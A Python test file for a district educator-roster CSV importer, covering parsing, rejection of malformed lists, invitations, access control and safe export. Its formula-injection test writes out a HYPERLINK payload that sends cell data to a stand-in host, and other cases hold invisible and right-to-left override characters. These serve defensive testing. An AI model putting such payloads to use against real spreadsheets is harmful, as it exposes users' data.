"""The list of a district's educators: what is read of it, what taking it does, and what it is never taken for."""

import csv
import io

import pytest
from sentences import sentences
from town import Town

from credentials.errors import NotFound
from credentials.people import roster, service
from credentials.people.model import (
    Act,
    Listed,
    OrganisationKind,
    Person,
    Role,
    RoleNeeded,
    RosterLine,
    RosterPlan,
    RosterRefused,
)
from credentials.spreadsheets import write_rows

HEADER = "district_id,educator_id,email,first_name,last_name\n"
ANA = RosterLine(address="ana@heron.example", first_name="Ana", last_name="Okafor", educator_id="E1", district_id="D1")


def read(text: str) -> tuple[RosterLine, ...]:
    return roster.read_roster(text.encode())


# What is read


@sentences(
    "text",
    {
        "as it is": HEADER + "D1,E1,ana@heron.example,Ana,Okafor\n",
        "with a byte order mark": "\ufeff" + HEADER + "D1,E1,ana@heron.example,Ana,Okafor\n",
        "with the line ends of another system": (HEADER + "D1,E1,ana@heron.example,Ana,Okafor\n").replace("\n", "\r\n"),
        "with spaces and capitals": HEADER.upper() + " D1 , E1 , Ana@Heron.example ,  Ana , Okafor \n",
        "in quotes": HEADER + '"D1","E1","ana@heron.example","Ana","Okafor"\n',
        "with its columns in another order": (
            "last_name,first_name,email,educator_id,district_id\nOkafor,Ana,ana@heron.example,E1,D1\n"
        ),
        "with empty lines": HEADER + "\n,,,,\nD1,E1,ana@heron.example,Ana,Okafor\n\n",
        "without an end of its last line": HEADER + "D1,E1,ana@heron.example,Ana,Okafor",
        "with a line end in a cell": HEADER + 'D1,E1,ana@heron.example,"\nAna\r",Okafor\n',
    },
)
def test_a_list_is_read(text: str) -> None:
    assert read(text) == (ANA,)


def test_the_numbers_of_the_district_may_be_left_out() -> None:
    assert read("email,first_name,last_name\na@x.example,Ana,Müller\n") == (
        RosterLine(address="a@x.example", first_name="Ana", last_name="Müller"),
    )


@sentences(
    ("text", "says"),
    {
        "nothing": ("", "missing: email"),
        "no line": (HEADER, "no line below"),
        "no column for the address": ("first_name,last_name\nAna,X\n", "missing: email"),
        "a column that nobody asked for": ("email,first_name,last_name,born\na@x.example,A,X,1990\n", "born"),
        "a column twice": ("email,email,first_name,last_name\n", "given twice"),
        "the line that one spreadsheet puts first": ("sep=;\n" + HEADER, "first line names the columns"),
        "lines that end in an old way": (HEADER.replace("\n", "\r") + "D1,E1,a@x.example,Ana,X\r", "CR alone"),
        "a quote that never ends": (HEADER + 'D1,E1,a@x.example,"Ana,X\n', "cannot be read as CSV"),
        "no address": (HEADER + "D1,E1,,Ana,X\n", "line 2: email"),
        "an address with a letter that nobody sees": (HEADER + "D1,E1,a\u200b@x.example,Ana,X\n", "line 2: email"),
        "a name that runs the other way": (HEADER + "D1,E1,a@x.example,A\u202eB,X\n", "line 2: first_name"),
        "an address that is none": (HEADER + "D1,E1,ana,Ana,X\n", "line 2: email"),
        "no name": (HEADER + "D1,E1,a@x.example,,X\n", "line 2: first_name"),
        "a name that is too long": (HEADER + f"D1,E1,a@x.example,{'a' * 201},X\n", "line 2: first_name"),
        "a number that is too long": (HEADER + f"D1,{'1' * 65},a@x.example,Ana,X\n", "line 2: educator_id"),
        "an invisible character in a number": (HEADER + "D1,E\u202e1,a@x.example,Ana,X\n", "line 2: educator_id"),
        "a cell too many": (HEADER + "D1,E1,a@x.example,Ana,X,more\n", "more cells than columns"),
        "a cell too few": (HEADER + "D1,E1,a@x.example\n", "line 2: first_name"),
        "an address twice": (
            HEADER + "D1,E1,a@x.example,A,X\nD1,E2,A@x.example,B,Y\n",
            "line 3: email a@x.example stands in line 2 already",
        ),
        "a number twice": (
            HEADER + "D1,E1,a@x.example,A,X\nD1,E1,b@x.example,B,Y\n",
            "line 3: educator_id E1 stands in line 2 already",
        ),
        "too many lines": (
            "email,first_name,last_name\n" + "".join(f"a{n}@x.example,A,X\n" for n in range(roster.MAX_LINES + 1)),
            "at most 5,000 lines",
        ),
    },
)
def test_a_list_is_refused_whole_with_the_place_where_it_has(text: str, says: str) -> None:
    with pytest.raises(RosterRefused) as refused:
        read(text)
    assert refused.value.code == "csv-invalid"
    assert says in " ".join([refused.value.detail, *(f"{one.pointer} {one.detail}" for one in refused.value.faults)])


@sentences(
    "octets",
    {
        "letters of an old alphabet": (HEADER + "D1,E1,a@x.example,Müller,X\n").encode("latin-1"),
        "two octets for each letter": (HEADER + "D1,E1,a@x.example,Ana,X\n").encode("utf-16"),
        "an archive": b"PK\x03\x04" + bytes(40),
        "more than a megabyte": b"email,first_name,last_name\n" + b"a" * roster.MAX_OCTETS,
    },
)
def test_what_is_no_list_at_all_is_refused(octets: bytes) -> None:
    with pytest.raises(RosterRefused):
        roster.read_roster(octets)


def test_the_same_number_in_two_districts_is_two_people() -> None:
    assert len(read(HEADER + "D1,E1,a@x.example,A,X\nD2,E1,b@x.example,B,Y\n")) == 2


# What taking it does


async def take(town: Town, by: Person | Act, lines: tuple[RosterLine, ...]) -> RosterPlan:
    act = by if isinstance(by, Act) else await town.act(by)
    return await town.do(service.take_roster, act, town.places["heron"].id, lines)


def counts(planned: RosterPlan) -> tuple[int, int, int, int, int]:
    return len(planned.invite), len(planned.invited), len(planned.here), planned.new, planned.changed


async def test_taken_again_a_list_invites_nobody_twice(town: Town) -> None:
    lines = read(HEADER + "D1,E1,ana@heron.example,Ana,Okafor\nD1,E2,bo@heron.example,Bo,Lund\n")
    admin = await town.act(town.admin)
    assert counts(await town.see(service.plan_roster, admin, town.places["heron"].id, lines)) == (2, 0, 0, 2, 0)
    assert counts(await take(town, town.admin, lines)) == (2, 0, 0, 2, 0)
    assert counts(await take(town, town.admin, lines)) == (0, 2, 0, 0, 0)
    secret = await town.secret_to("ana@heron.example")
    ticket, _, _ = await town.see(service.invitation, secret, town.now)
    assert await town.see(service.listed_name, ticket) == "Ana Okafor"
    phc = await town.hasher.hash("three quiet herons at dusk")
    ana = await town.do(service.accept_invitation, town.nobody, secret, name="Ana O.", phc=phc)
    renamed = read(HEADER + "D1,E1,ana@heron.example,Ana,Lund\n")
    assert counts(await take(town, town.admin, renamed)) == (0, 0, 1, 0, 1)
    listed = await town.see(service.roster_of, await town.act(town.admin), town.places["heron"].id, limit=10)
    assert [(entry.name, standing) for entry, standing in listed] == [
        ("Ana Lund", Listed.HERE),
        ("Bo Lund", Listed.INVITED),
    ]
    assert (await town.see(service.person, ana.id)).name == "Ana O."  # what somebody is called, they say themselves


async def test_an_invitation_that_ran_out_is_sent_again(town: Town) -> None:
    await take(town, town.admin, (ANA,))
    town.clock.advance(days=15)
    listed = await town.see(service.roster_of, await town.act(town.admin), town.places["heron"].id, limit=10)
    assert [standing for _, standing in listed] == [Listed.NOT_INVITED]
    assert counts(await take(town, town.admin, (ANA,))) == (1, 0, 0, 0, 0)


async def test_only_an_administrator_of_the_place_lists_people_there(town: Town) -> None:
    tess = await town.join("tess")
    with pytest.raises(RoleNeeded):
        await take(town, tess, (ANA,))
    await town.place("osprey", OrganisationKind.DISTRICT, "alder")
    stranger = await town.act(await town.join("otto", "osprey", Role.ADMINISTRATOR))
    for verb in (service.take_roster, service.plan_roster):
        with pytest.raises(NotFound):
            await town.do(verb, stranger, town.places["heron"].id, (ANA,))


async def test_somebody_is_taken_off_and_what_they_hold_stays(town: Town) -> None:
    await take(town, town.admin, (ANA,))
    admin = await town.act(town.admin)
    heron = town.places["heron"].id
    ((entry, _),) = await town.see(service.roster_of, admin, heron, limit=10)
    await town.do(service.unlist, admin, heron, entry.id)
    assert await town.see(service.roster_of, admin, heron, limit=10) == []
    assert len(await town.see(service.open_invitations, [heron], town.now)) == 1
    with pytest.raises(NotFound):
        await town.do(service.unlist, admin, heron, entry.id)


async def test_what_looks_like_a_formula_is_text_and_harmless_where_it_is_written_out(town: Town) -> None:
    lines = read(HEADER + '=1,+1,ana@heron.example,"=HYPERLINK(""http://x.example?""&A1)",\t@SUM(A1)\n')
    await take(town, town.admin, lines)
    listed = await town.see(service.roster_of, await town.act(town.admin), town.places["heron"].id, limit=10)
    ((entry, standing),) = listed
    assert entry.first_name == '=HYPERLINK("http://x.example?"&A1)'
    (cells,) = csv.reader(io.StringIO(write_rows([roster.row_of(entry, standing)]).decode("utf-8-sig")))
    assert cells[:5] == ["'=1", "'+1", "ana@heron.example", "'" + entry.first_name, "'@SUM(A1)"]


async def test_what_was_handed_out_is_read_again_as_it_was(town: Town) -> None:
    lines = read(HEADER + '=1,+1,ana@heron.example,"=1+1",@SUM(A1)\n-D,,+bo@heron.example,"O\'Neil, Jr.",Lund\n')
    await take(town, town.admin, lines)
    listed = await town.see(service.roster_of, await town.act(town.admin), town.places["heron"].id, limit=10)
    table = write_rows([roster.EXPORTED, *(roster.row_of(entry, standing) for entry, standing in listed)])
    assert roster.read_roster(table) == lines
    assert counts(await take(town, town.admin, roster.read_roster(table))) == (0, 2, 0, 0, 0)
